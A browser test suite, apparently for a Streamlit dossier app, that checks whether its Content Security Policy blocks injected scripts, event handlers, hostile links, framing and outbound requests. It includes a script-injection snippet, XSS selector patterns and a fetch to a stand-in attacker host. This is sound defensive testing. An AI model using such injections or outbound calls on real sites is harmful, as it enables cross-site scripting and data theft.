"""What a real browser makes of attacks, and of the policy that is to stop them."""

import pytest
from apps import PAGES
from attacks import HOST, write_attacks

from browser.conftest import REAL, settled
from dossier.loading import load_dossier

CHOSEN = (
    *("sources?claim=brandt-worked", "sources?source=clock-late"),
    *("conflicts?question=repair", "conflicts?question=crowd"),
)


@pytest.fixture(scope="session")
def attacked_app(shared, tmp_path_factory) -> str:
    """The address of a dossier whose every string is an attack."""
    return shared(write_attacks(tmp_path_factory.mktemp("attacks")))


@pytest.mark.parametrize("place", [*(page.replace("overview", "") for page in PAGES), *CHOSEN, "analysts?analyst=lund"])
def test_no_attack_runs_asks_or_reaches_out(attacked_app, visit, place):
    """`visit` holds that no request leaves, no dialog opens and the policy has nothing to stop."""
    page = visit(f"{attacked_app}/{place}")
    assert page.evaluate("window.ran") is None
    assert page.title() != "owned"
    assert page.locator(f"a[href*='{HOST}'], a[href^='javascript:'], a[href^='data:'], iframe").count() == 0
    assert page.locator("[data-testid=stMain] script, [data-testid=stMain] svg[onload], img[src*='//']").count() == 0


def test_components_written_in_python_reach_the_browser(real_app, visit):
    """They come as modules from `blob:` addresses; a policy without them would leave the texts blank."""
    source = next(iter(load_dossier(REAL).sources))
    page = visit(f"{real_app}/sources?source={source}")
    page.locator("mark").first.wait_for()
    page.locator("mark").first.click()
    page.wait_for_url("**claim=**")
    settled(page)


def test_the_policy_stops_a_script_that_got_into_the_page(tiny_app, new_context):
    page = new_context().new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(tiny_app)
    settled(page)
    page.evaluate(
        """() => {
            const inline = document.createElement("script");
            inline.textContent = "window.ran = 1";
            document.body.append(inline);
            document.body.insertAdjacentHTML("beforeend", "<button id=bad onclick='window.ran = 2'>x</button>");
            document.getElementById("bad").click();
        }"""
    )
    assert page.evaluate("window.ran") is None
    away = "() => fetch('http://attacker.invalid/').then(() => 'sent', error => error.name)"
    assert page.evaluate(away) == "TypeError"
    assert len([text for text in said if "Content Security Policy" in text]) >= 3


def test_another_site_cannot_show_the_page_inside_its_own(tiny_app, real_app, new_context):
    """Two ports of one machine are two origins."""
    page = new_context().new_page()
    page.goto(f"{real_app}/healthz")
    page.set_content(f"<iframe src='{tiny_app}/' width=800 height=600></iframe>")
    page.wait_for_timeout(1500)
    frame = page.frames[-1]
    assert not frame.url.startswith(tiny_app) or frame.locator("[data-testid=stApp]").count() == 0
